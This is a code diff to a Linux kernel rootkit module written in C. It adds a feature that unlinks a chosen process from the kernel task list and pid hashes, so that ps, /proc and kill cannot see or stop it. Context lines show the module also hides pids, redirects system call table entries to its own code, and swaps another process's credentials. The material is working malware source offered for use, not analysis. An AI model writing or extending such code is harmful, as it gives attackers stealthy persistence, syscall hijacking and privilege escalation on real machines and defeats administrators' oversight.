@@ -9,6 +9,10 @@
  *                  pid table, so /proc still lists it), holding
  *                  tasklist_lock (ADDR from /proc/kallsyms: it is not
  *                  exported to modules);
+ *   unhash=N       with tl=ADDR too: unlink process N (single-threaded)
+ *                  from the task list and from every pid link, so that
+ *                  neither ps-style walkers nor /proc nor kill(2) find
+ *                  it; it keeps running, on its run queue;
  *   sct=ADDR nr=N  point sys_call_table[N] (ADDR from /proc/kallsyms) at
  *                  this module's code, written through a vmap() alias
  *                  because the table is read-only;
@@ -60,6 +64,8 @@ static int hide_pid;
 module_param(hide_pid, int, 0);
 static unsigned long tl;
 module_param(tl, ulong, 0);
+static int unhash;
+module_param(unhash, int, 0);
 static unsigned long sct;
 module_param(sct, ulong, 0);
 static int nr = -1;
@@ -228,6 +234,24 @@ static int hide_task(void)
 	return 0;
 }
 
+/* The task stays unhashed for good: it must never exit, since
+ * detach_pid() would unlink it a second time. */
+static int unhash_task(void)
+{
+	struct task_struct *t = get_task(unhash);
+	enum pid_type type;
+
+	if (!t)
+		return -ESRCH;
+	write_lock_irq((rwlock_t *)tl);
+	list_del_init(&t->tasks);
+	for (type = PIDTYPE_PID; type < PIDTYPE_MAX; type++)
+		hlist_del_init_rcu(&t->pid_links[type]);
+	write_unlock_irq((rwlock_t *)tl);
+	put_task_struct(t);
+	return 0;
+}
+
 /* Replace another process's credentials, both the objective (real_cred)
  * and the subjective (cred) pointer. The old ones are leaked: a rootkit
  * does not care. */
@@ -256,6 +280,8 @@ static int __init rk_init(void)
 	int err = 0;
 
 	if (hide_pid > 0 && tl && (err = hide_task()))
+		return err;
+	if (unhash > 0 && tl && (err = unhash_task()))
 		return err;
 	if (sct && nr >= 0 && nr < 512 && (err = hook_syscall()))
 		return err;
